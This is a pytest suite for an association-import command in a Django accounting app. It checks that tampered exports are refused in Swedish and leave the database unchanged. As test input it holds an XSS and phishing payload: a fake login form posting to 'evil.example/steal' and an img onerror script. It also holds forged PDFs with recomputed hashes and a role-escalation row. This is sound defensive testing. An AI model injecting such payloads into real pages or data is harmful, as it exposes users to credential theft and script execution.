"""An association import that trusts nothing: every tampered export is refused in
Swedish and changes nothing (markup, decided PDF bytes, an invalid choice, a control
character, a huge file, a slug mismatch, a version given as text, a key collision),
and roles come along only with an explicit --map-users."""

from __future__ import annotations

import base64
import datetime
import hashlib
import io
import json

import pytest
from django.apps import apps
from django.contrib.auth import get_user_model
from django.core.management import call_command
from django.core.management.base import CommandError
from django.utils import timezone
from pypdf import PdfWriter

from budgets import services as budget_services
from finsam import transfer
from members.models import Association, UserRole
from reporting import services as reporting_services
from reporting import snapshots
from reporting.models import DecidedDocument

EVIL = '<form action="https://evil.example/steal"><button>Logga in</button></form><img src=x onerror=alert(1)>'


def _fingerprint() -> dict[str, int]:
    """How many rows each table of an association holds, and how many users exist."""
    counts = {m._meta.label_lower: m._base_manager.count() for m in transfer.association_paths()}
    counts["auth.user"] = get_user_model().objects.count()
    return counts


def _exported(slug: str) -> dict:
    document = transfer.export_association(slug)
    transfer.delete_association(slug)
    return document


def _import(document: dict, tmp_path, *args: str, **options):
    document["checksum"] = transfer.checksum(document)  # a tamperer fixes it up
    file = tmp_path / "export.json"
    file.write_text(json.dumps(document), encoding="utf-8")
    call_command("import_association", str(file), *args, **options)


def _refused(document: dict, tmp_path, message: str, **options) -> None:
    before = _fingerprint()
    with pytest.raises(CommandError, match=message):
        _import(document, tmp_path, **options)
    assert _fingerprint() == before


def _rows(document: dict, label: str) -> list:
    return next(t["rows"] for t in document["tables"] if t["model"] == label)


def _text_markup(value):
    """The first piece of a text's markup in frozen data (not a chart's SVG)."""
    if isinstance(value, dict):
        if isinstance(value.get("__safe"), str) and not value["__safe"].startswith("<svg"):
            return value
        values = value.values()
    elif isinstance(value, list):
        values = value
    else:
        return None
    for item in values:
        found = _text_markup(item)
        if found is not None:
            return found
    return None


# --- decided documents (the demo decides Västerås' budgets) -------------------------


def _forged_pdf(document):
    decided = _rows(document, "reporting.decideddocument")[0]["fields"]
    forged = b"%PDF-1.7\n% forged decided plan\n"
    decided["pdf"] = base64.b64encode(forged).decode()
    decided["sha256"] = hashlib.sha256(forged).hexdigest()  # the column fixed up too


def _bytes_changed(document):
    decided = _rows(document, "reporting.decideddocument")[0]["fields"]
    pdf = base64.b64decode(decided["pdf"])
    decided["pdf"] = base64.b64encode(pdf[:-10] + b"0" * 10).decode()


def _markup(document):
    decided = _rows(document, "reporting.decideddocument")[0]["fields"]
    text = _text_markup(decided["snapshot"])
    text["__safe"] += EVIL


def _unknown_block(document):
    decided = _rows(document, "reporting.decideddocument")[0]["fields"]
    decided["snapshot"]["document"]["__block"] = "Skript"


def test_every_tampered_decided_document_is_refused_and_changes_nothing(db, tmp_path):
    call_command("load_demo", verbosity=0)
    exported = _exported("vasteras")
    assert _rows(exported, "reporting.decideddocument")
    for tamper, message in [
        (_forged_pdf, "kontrollsumman finns inte i ändringsloggen"),
        (_bytes_changed, "PDF-filen stämmer inte med sin kontrollsumma"),
        (_markup, "otillåten HTML-kod"),
        (_unknown_block, "dokumentet vid beslutet går inte att läsa"),
    ]:
        document = json.loads(json.dumps(exported))
        tamper(document)
        _refused(document, tmp_path, rf"Det beslutade dokumentet \S+ \d{{4}} .*{message}")
    assert not Association.objects.filter(slug="vasteras").exists()
    _import(json.loads(json.dumps(exported)), tmp_path)  # untouched, it goes in
    assert Association.objects.filter(slug="vasteras").exists()


def test_a_tampered_pdf_of_a_report_decided_outside_finsam_is_refused(association, tmp_path):
    """The association's own PDF of an annual report made before Finsam is checked as a
    decided document is: its bytes against its hash, the hash against the change log."""
    fiscal_year = budget_services.fiscal_year_ensure(association=association, year=2019)
    budget_services.fiscal_year_close_outside(
        fiscal_year=fiscal_year,
        closed_on=datetime.date(2020, 3, 26),
        paragraph="§ 3",
        confirmed=True,
    )
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    out = io.BytesIO()
    writer.write(out)
    reporting_services.outside_report_upload(
        association=association, year=2019, content=out.getvalue(), filename="ar.pdf"
    )
    exported = _exported("testbygden")

    def forged(document):
        row = _rows(document, "reporting.outsideannualreport")[0]["fields"]
        fake = b"%PDF-1.7\n% another report\n"
        row["pdf"], row["sha256"] = (
            base64.b64encode(fake).decode(),
            hashlib.sha256(fake).hexdigest(),
        )

    def changed(document):
        row = _rows(document, "reporting.outsideannualreport")[0]["fields"]
        row["pdf"] = base64.b64encode(base64.b64decode(row["pdf"])[:-10] + b"0" * 10).decode()

    for tamper, message in [
        (forged, "kontrollsumman finns inte i ändringsloggen"),
        (changed, "PDF-filen stämmer inte med sin kontrollsumma"),
    ]:
        document = json.loads(json.dumps(exported))
        tamper(document)
        _refused(
            document, tmp_path, rf"Årsredovisningen 2019 \(upprättad utanför Finsam\): {message}"
        )
    _import(json.loads(json.dumps(exported)), tmp_path)
    assert Association.objects.get(slug="testbygden").outside_annual_reports.get().year == 2019


def test_markup_in_a_frozen_document_is_sanitised_whenever_it_is_read():
    data = {"document": {"__block": "Text", "html": {"__safe": "<p>Inledning</p>" + EVIL}}}
    block = snapshots._load(data["document"], snapshots._classes())
    html = str(block.html)
    assert html.startswith("<p>Inledning</p>")
    for foreign in ("<form", "evil.example", "<img", "onerror", "<button"):
        assert foreign not in html
    assert snapshots.foreign_markup(data) and not snapshots.foreign_markup(
        {"html": {"__safe": "<p>Inledning</p>"}}
    )


# --- rows ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("tamper", "message"),
    [
        (lambda d: _rows(d, "members.member")[0]["fields"].update(kind="hacked"), "kind: "),
        (lambda d: _rows(d, "members.userrole")[0]["fields"].update(role="superadmin"), "role: "),
        (
            lambda d: _rows(d, "members.member")[0]["fields"].update(name="Köping\u202esgnik"),
            "name: Texten innehåller ett otillåtet tecken",
        ),
        (
            lambda d: _rows(d, "members.member")[0]["fields"].update(sort_order=-5),
            "sort_order: ",
        ),
        (lambda d: d.update(version="1"), 'ska vara ett heltal \\(1\\), inte "1"'),
        (
            lambda d: _rows(d, "members.member")[0]["fields"].update(sort_order="många"),
            'members.member.sort_order: värdet "många" går inte att läsa',
        ),
        (
            lambda d: _rows(d, "members.association")[0]["fields"].update(slug="annat"),
            "gäller ”testbygden” men förbundets rad har kortadressen ”annat”",
        ),
        (
            lambda d: _rows(d, "members.member").append(
                {**_rows(d, "members.member")[0], "pk": 999_999}
            ),
            "members.member, rad 999999: krockar med en rad som redan finns",
        ),
        (
            lambda d: d["tables"].append({"model": "auth.user", "rows": []}),
            "okända tabeller: auth.user",
        ),
    ],
)
def test_a_tampered_row_is_refused_and_changes_nothing(
    association, kansli_user, tmp_path, tamper, message
):
    document = _exported("testbygden")
    tamper(document)
    users = tmp_path / "users.json"
    users.write_text(json.dumps({"alice": "alice"}))
    _refused(document, tmp_path, message, map_users=str(users))
    assert not Association.objects.filter(slug="testbygden").exists()


def test_a_huge_file_is_refused_unread(association, tmp_path):
    document = _exported("testbygden")
    _rows(document, "members.member")[0]["fields"]["name"] = "x" * 2_000_000
    _refused(document, tmp_path, "en export läses in upp till 1 MB", max_mb=1)


# --- roles --------------------------------------------------------------------------


def test_without_a_user_mapping_no_role_comes_along_and_the_summary_says_so(
    association, kansli_user, tmp_path, capsys
):
    document = _exported("testbygden")
    # A local user of the same name is not the person of the file.
    _import(document, tmp_path)
    restored = Association.objects.get(slug="testbygden")
    assert not UserRole.objects.filter(association=restored).exists()
    assert "Roller: inga lästes in (1 i filen lämnades bort)" in capsys.readouterr().out
    audit = apps.get_model("finsam", "AuditEntry")
    assert not audit.objects.filter(association=restored, user__isnull=False).exists()


def test_a_user_mapping_gives_the_roles_it_names(association, kansli_user, tmp_path, capsys):
    document = _exported("testbygden")
    anna = get_user_model().objects.create_user(username="anna")
    users = tmp_path / "users.json"
    users.write_text(json.dumps({"alice": "anna"}))
    _import(document, tmp_path, map_users=str(users))
    restored = Association.objects.get(slug="testbygden")
    role = UserRole.objects.get(association=restored)
    assert (role.user, role.role) == (anna, UserRole.KANSLI)
    assert not UserRole.objects.filter(user=kansli_user, association=restored).exists()
    assert "Roller: 1 kopplade enligt --map-users; 0 utan koppling" in capsys.readouterr().out


def test_a_user_mapping_that_is_not_a_mapping_is_refused(association, tmp_path):
    document = _exported("testbygden")
    users = tmp_path / "users.json"
    users.write_text(json.dumps(["alice"]))
    _refused(document, tmp_path, "ska vara ett JSON-objekt", map_users=str(users))


def test_a_signature_needs_its_signer_in_the_user_mapping(db, kansli_user, tmp_path):
    """A role is left out without a mapping; a signatory (who signed) cannot be, so the
    import is refused until --map-users says who it is."""
    call_command("load_demo", verbosity=0)
    decided = DecidedDocument.objects.filter(association__slug="vasteras").first()
    signing_round = apps.get_model("signing", "SigningRound").objects.create(
        association=decided.association,
        year=decided.year,
        document=decided,
        started_at=timezone.now(),
    )
    apps.get_model("signing", "Signatory").objects.create(
        signing_round=signing_round, user=kansli_user, name="Alice", title="Ordförande"
    )
    document = _exported("vasteras")
    _refused(document, tmp_path, "signing.signatory: en rad hör till användaren ”alice”")
